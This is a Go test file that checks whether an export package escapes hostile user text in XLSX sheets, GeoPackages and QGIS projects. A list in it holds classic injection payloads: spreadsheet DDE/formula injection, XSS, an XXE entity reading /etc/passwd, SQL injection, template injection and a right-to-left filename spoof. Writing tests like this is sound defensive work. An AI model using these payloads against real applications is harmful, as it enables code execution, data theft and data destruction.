package export_test

import (
	"archive/zip"
	"bytes"
	"database/sql"
	"encoding/xml"
	"errors"
	"io"
	"os"
	"path"
	"slices"
	"strings"
	"testing"

	"kvarter/store"
	"kvarter/store/export"
)

// hostile are texts that a spreadsheet, a database, a GIS program or a page would
// run, were they ever taken for more than text.
var hostile = []string{
	`=cmd|' /C calc'!A0`, `=HYPERLINK("https://example.org?"&A1,"see")`, `@SUM(1+1)*cmd|' /C calc'!A0`, `+1+1`, `-2+3`, "\t=1+1", "{=1+1}", `=WEBSERVICE("https://example.org")`,
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `]]>&xxe;<!--`, `<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`, `&lt;b&gt;`, `_x003C_b_x003E_`,
	`'); DROP TABLE points; --`, `" OR 1=1 --`, `[% eval('1+1') %]`, `https://example.org/#`, `mailto:a@example.org`, `file:///etc/passwd`, `${7*7}{{7*7}}`, "\u202egnp.exe", "%n%s",
}

// hostileOptions has them in all that operators and whoever asks may name.
func hostileOptions(text string) export.Options {
	o := options(store.AudienceStaff)
	probed := store.Text{"nb": text, "nn": text, "en": text}
	a := *o.Area
	a.Name, a.Operator, a.BaseMap.Attribution = probed, probed, text
	m := *a.Methods[0]
	a.Methods = []*store.Method{&m}
	m.Name = probed
	m.Prompts, m.Themes = slices.Clone(m.Prompts), slices.Clone(m.Themes)
	for i := range m.Prompts {
		m.Prompts[i].Short, m.Prompts[i].Label = probed, probed
	}
	for i := range m.Themes {
		m.Themes[i].Label = probed
	}
	o.Area, o.Lang, o.Filter = &a, "nb", map[string][]string{"q": {text}}
	return o
}

// hostileRows has each of them in every text of a contribution.
func hostileRows() []*store.Contribution {
	var all []*store.Contribution
	for i, text := range hostile {
		c := *samples()[0]
		c.ID[0], c.ID[1] = byte(i), 1
		c.Title, c.Text, c.Wish, c.PlaceText, c.Byline = text, text, text, text, text
		all = append(all, &c)
	}
	return all
}

// A sheet of hostile texts has neither formulas nor links nor anything from outside,
// is well-formed in every part, and says them as they are.
func TestXLSXOfHostileTexts(t *testing.T) {
	t.Parallel()
	z, err := zip.OpenReader(file(t, "xlsx", hostileOptions(strings.Join(hostile, " ")), hostileRows()...))
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	for name, data := range parts(t, &z.Reader) {
		if path.Ext(name) != ".xml" && path.Ext(name) != ".rels" {
			t.Errorf("%s is no XML", name)
		}
		wellFormed(t, string(data))
		for _, bad := range []string{"<f>", "<f ", "<hyperlink", "<externalReference", "<ddeLink", `TargetMode="External"`, "<!DOCTYPE", "<!ENTITY", "vbaProject"} {
			if strings.Contains(string(data), bad) {
				t.Errorf("%s holds %s", name, bad)
			}
		}
	}
	rows := sheet(t, file(t, "xlsx", hostileOptions("x"), hostileRows()...), "data")
	for _, column := range []string{"title", "text", "wish", "place_text", "byline"} {
		at := slices.Index(rows[0], column)
		for i, want := range hostile {
			if got := rows[i+1][at]; got != want {
				t.Errorf("%s says %q for %q", column, got, want)
			}
		}
	}
}

// A GeoPackage and a QGIS project of them are whole: every text as it is, every
// style well-formed and with no symbols or fields but its own.
func TestGeoPackageOfHostileTexts(t *testing.T) {
	t.Parallel()
	harmless := elements(t, styles(t, file(t, "gpkg", hostileOptions("x"), hostileRows()...)))
	all := strings.Join(hostile, " ")
	if got := elements(t, styles(t, file(t, "gpkg", hostileOptions(all), hostileRows()...))); got != harmless {
		t.Errorf("%q make %d elements of styles, not %d", all, got, harmless)
	}
	var b bytes.Buffer
	if err := hostileOptions(all).Project(&b, "https://example.org/ogc"); err != nil {
		t.Fatal(err)
	}
	z, err := zip.NewReader(bytes.NewReader(b.Bytes()), int64(b.Len()))
	if err != nil {
		t.Fatal(err)
	}
	for name, data := range parts(t, z) {
		if strings.HasSuffix(name, ".qgs") {
			wellFormed(t, string(data))
		}
	}
	db, err := sql.Open("sqlite", file(t, "gpkg", hostileOptions(hostile[0]), hostileRows()...))
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	for _, column := range []string{"title", "text", "wish", "place_text", "byline"} {
		for _, want := range hostile {
			var n int
			if err := db.QueryRowContext(t.Context(), `SELECT count(*) FROM points WHERE "`+column+`" = ?`, want).Scan(&n); err != nil || n != 1 {
				t.Errorf("%d rows say %q in %s, %v", n, want, column, err)
			}
		}
	}
}

// styles are all of a GeoPackage's, one after the other.
func styles(t *testing.T, path string) string {
	t.Helper()
	defer os.Remove(path)
	db, err := sql.Open("sqlite", path)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	var all string
	err = db.QueryRowContext(t.Context(), "SELECT '<all>' || group_concat(replace(styleQML, '<!DOCTYPE qgis PUBLIC ''http://mrcc.com/qgis.dtd'' ''SYSTEM''>', ''), '') || '</all>' FROM layer_styles").Scan(&all)
	if err != nil {
		t.Fatal(err)
	}
	return all
}

// elements is how many a well-formed text has.
func elements(t *testing.T, text string) int {
	t.Helper()
	n := 0
	for d := xml.NewDecoder(strings.NewReader(text)); ; {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			return n
		}
		if err != nil {
			t.Fatalf("%v in\n%.2000s", err, text)
		}
		if _, is := token.(xml.StartElement); is {
			n++
		}
	}
}

// parts are the files in an archive.
func parts(t *testing.T, z *zip.Reader) map[string][]byte {
	t.Helper()
	all := map[string][]byte{}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		if all[f.Name], err = io.ReadAll(r); err != nil {
			t.Fatal(err)
		}
		r.Close()
	}
	return all
}
